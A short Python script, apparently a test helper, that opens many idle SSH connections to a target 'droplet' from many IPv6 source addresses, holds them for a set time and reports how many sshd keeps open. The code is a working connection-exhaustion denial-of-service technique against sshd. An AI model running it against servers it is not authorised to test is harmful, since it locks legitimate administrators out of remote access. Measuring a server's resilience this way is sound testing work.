"""Opens connections to sshd from many addresses of one network, and sends nothing over the connections.

The program runs on the attacker as `python3 -c`. Arguments: the droplet's address, the number of connections for each
address, the number of seconds, and the attacker's addresses. Prints "holding" once all connections are open. At the
end, prints how many connections sshd has greeted and still holds.
"""

import sys
import time
from socket import AF_INET6, SOCK_STREAM, socket


def main(address: str, each: str, seconds: str, *own: str) -> None:
    held = [one for source in own for _ in range(int(each)) if (one := connected(source, address))]
    print("holding", flush=True)
    time.sleep(float(seconds))
    print(sum(map(is_open, held)))


def connected(source: str, address: str) -> socket | None:
    one = socket(AF_INET6, SOCK_STREAM)
    one.settimeout(5)
    try:
        one.bind((source, 0))
        one.connect((address, 22))
        return one if one.recv(256).startswith(b"SSH-") else None
    except OSError:
        return None


def is_open(one: socket) -> bool:
    one.settimeout(0)
    try:
        return bool(one.recv(1))
    except BlockingIOError:
        return True
    except OSError:
        return False


main(*sys.argv[1:])
